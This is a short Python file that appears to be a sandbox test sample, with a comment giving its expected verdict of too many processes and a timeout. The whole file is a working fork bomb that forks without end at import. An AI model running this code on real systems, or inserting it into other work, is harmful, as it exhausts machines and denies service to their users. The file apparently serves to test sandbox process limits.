# Doubles itself without end, at import.
# verdict: too_many_processes, timed_out
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
